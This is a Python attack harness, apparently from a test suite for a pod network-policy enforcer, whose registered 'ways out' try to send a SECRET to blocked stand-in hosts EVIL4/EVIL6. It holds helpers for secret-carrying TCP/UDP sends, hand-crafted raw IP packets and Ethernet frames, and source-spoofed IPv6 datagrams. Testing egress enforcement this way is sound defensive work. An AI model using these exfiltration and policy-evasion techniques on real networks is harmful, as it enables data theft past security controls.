"""What every attacker needs. A way out is a function with @way: it is what a process in a pod does to get SECRET,
or anything at all, to EVIL4 or EVIL6, which its policy does not allow. The referee (the Rust side) looks at what
arrives in the world; what a function returns or raises is of no interest, but it is shown.

    python3 attack.py list        every way, a line of JSON each
    python3 attack.py run NAME    be the attacker
    python3 attack.py help NAME   be the attacker's accomplice in the world
"""

import fcntl
import importlib
import json
import os
import socket
import struct
import sys
import time

FAMILIES = ["sockets", "names", "raw", "headers", "frames", "reflected", "redirected", "moved", "before", "admin", "tunnels", "limits"]
WAYS = {}

SECRET = os.environ.get("SECRET", "").encode()
EVIL4, EVIL6 = os.environ.get("EVIL4", ""), os.environ.get("EVIL6", "")
# The policy allows these two with every protocol, and the other two with TCP port 80 and UDP port 123 only; and to everybody on the
# link UDP ports 5000 to 5999.
ALLOWED4, ALLOWED6 = "198.18.1.1", "2001:db8:18:1::1"
WEB4, WEB6 = "198.18.2.1", "2001:db8:18:2::1"
# It allows this name, too.
NAME = "api.shop.test"
RESOLVER4, RESOLVER6 = "198.18.0.53", "2001:db8:18::53"
STRANGER4, STRANGER6 = "198.18.0.54", "2001:db8:18::54"
POD4, POD6 = os.environ.get("POD4", ""), os.environ.get("POD6", "")
GATEWAY4, GATEWAY6 = "10.77.0.1", "fd77::1"
EVERYBODY4, EVERYBODY6 = "10.77.0.255", "ff02::1"
# Nobody's address.
FOREIGN4, FOREIGN6 = "203.0.113.77", "2001:db8:77::77"
TIMEOUT = 0.25


def way(caps=(), stage="enforced", helper=None, outside=False, flood=False, refusing=False, out_of_scope=None):
    """Registers a way out.

    caps          capabilities that the attacker has besides net_bind_service; no others, though it is root
    stage         "enforced": the policy is in force before it starts. "attach": the pod is one that nobody selects
                  until the attacker calls ready(). "change": until then its policy allows everything
    helper        what an accomplice in the world does meanwhile
    outside       it starts outside the pod's cgroup, though in its network namespace
    flood         while it runs, the policy changes back and forth and the agent is started anew, again and again
    refusing      names that no rule matches are refused (dns.refuseUnmatched)
    out_of_scope  why it is not tried
    """

    def register(function):
        name = function.__module__ + "::" + function.__name__
        WAYS[name] = dict(run=function, helper=helper, caps=list(caps), stage=stage, outside=outside, flood=flood, refusing=refusing,
                          out_of_scope=out_of_scope, what=" ".join((function.__doc__ or "").split()))
        return function

    return register


def ready():
    """Everything is prepared; returns when the referee says so."""
    print("ready", flush=True)
    sys.stdin.readline()


def attempt(*functions):
    """Tries each, whatever becomes of the others."""
    for function in functions:
        try:
            function()
        except OSError as error:
            print(f"{error}", file=sys.stderr)


def tcp(address, port=80, data=None, bind=None):
    """A TCP connection that says the secret and waits for its echo."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT)
        if bind is not None:
            s.bind(bind)
        s.connect((address, port))
        s.send(SECRET if data is None else data)
        return s.recv(1000)


def udp(address, port=123, data=None):
    """A datagram with the secret."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(SECRET if data is None else data, (address, port))


def as_anybody(source, port, data, to):
    """A datagram to everybody on the link from an address that is not the sender's (IPV6_FREEBIND), for which no capability is needed."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
        s.bind((source, port))
        s.sendto(data, (EVERYBODY6, to, 0, socket.if_nametoindex("eth0")))


def ip(*arguments):
    """iproute2."""
    command("ip", *arguments)


def command(*arguments):
    """A command that must succeed."""
    import subprocess
    done = subprocess.run(arguments, capture_output=True, text=True)
    if done.returncode:
        raise OSError(f"{' '.join(arguments)}: {done.stderr.strip()}")
    return done.stdout


def sysctl(name, value):
    """Sets one of the network namespace's settings."""
    with open("/proc/sys/" + name.replace(".", "/"), "w") as file:
        file.write(value)


# Packets by hand.

def checksum(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def with_checksum(protocol, source, destination, segment, at):
    """A transport segment with its checksum at `at`, over the pseudo header of its family."""
    pseudo = packed(source) + packed(destination) + struct.pack("!IHH" if ":" in source else "!HH", *(
        (len(segment), 0, protocol) if ":" in source else (protocol, len(segment))))
    value = checksum(pseudo + segment) or 0xffff
    return segment[:at] + struct.pack("!H", value) + segment[at + 2:]


def udp_segment(source, destination, sport, dport, data):
    segment = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    return with_checksum(17, source, destination, segment, 6)


def tcp_segment(source, destination, sport, dport, flags, data=b"", seq=1, ack=1):
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 1024, 0, 0) + data
    return with_checksum(6, source, destination, segment, 16)


def echo_request(source, destination, data, kind=8):
    if ":" in source:
        return with_checksum(58, source, destination, struct.pack("!BBHHH", 128, 0, 0, 7, 1) + data, 2)
    message = struct.pack("!BBHHH", kind, 0, 0, 7, 1) + data
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def ip4(source, destination, protocol, body, options=b"", fragment=0, ident=None, ttl=64):
    """An IPv4 packet; `fragment` is the field with the flags."""
    options += b"\0" * (-len(options) % 4)
    ident = int.from_bytes(os.urandom(2)) if ident is None else ident
    header = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, 20 + len(options) + len(body), ident,
                         fragment, ttl, protocol, 0) + packed(source) + packed(destination) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body


def ip6(source, destination, protocol, body, length=None, hops=64):
    """An IPv6 packet; extension headers are part of the body."""
    length = len(body) if length is None else length
    return struct.pack("!IHBB", 0x60000000, length, protocol, hops) + packed(source) + packed(destination) + body


def send_raw(packet, destination=None, device=None):
    """Through a raw socket that takes whole packets, to their destination or another next hop."""
    if packet[0] >> 4 == 4:
        to = destination or socket.inet_ntoa(packet[16:20])
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        to = destination or socket.inet_ntop(socket.AF_INET6, packet[24:40])
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with s:
        if device:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        s.sendto(packet, (to, 0))


def mac(device="eth0"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        # SIOCGIFHWADDR: struct ifreq has the address behind the name and its family.
        return fcntl.ioctl(s, 0x8927, struct.pack("40s", device.encode()))[18:24]


def gateway_mac():
    """The next hop's, which the pod has talked to."""
    attempt(lambda: tcp(ALLOWED4, data=b"hello"))
    for line in command("ip", "-4", "neigh", "show", GATEWAY4, "dev", "eth0").splitlines():
        words = line.split()
        if "lladdr" in words:
            return bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
    raise OSError("the gateway has no address")


def send_frame(packet, ethertype=None, device="eth0", to=None, tag=b"", source=None):
    """A frame, straight to the interface."""
    if ethertype is None:
        ethertype = 0x0800 if packet[0] >> 4 == 4 else 0x86dd
    frame = (to or gateway_mac()) + (source or mac(device)) + tag + struct.pack("!H", ethertype) + packet
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        s.send(frame)


def main():
    # Ways import this file by its name, and must find this instance.
    sys.modules["attack"] = sys.modules["__main__"]
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    for family in FAMILIES:
        importlib.import_module(family)
    verb, *name = sys.argv[1:]
    if verb == "list":
        for name, known in WAYS.items():
            shown = {key: value for key, value in known.items() if key not in ("run", "helper")}
            print(json.dumps(dict(shown, name=name, helped=known["helper"] is not None)))
        return
    function = WAYS[name[0]]["run" if verb == "run" else "helper"]
    try:
        function()
    except OSError as error:
        print(f"{error}", file=sys.stderr)
    time.sleep(0.02)


if __name__ == "__main__":
    main()
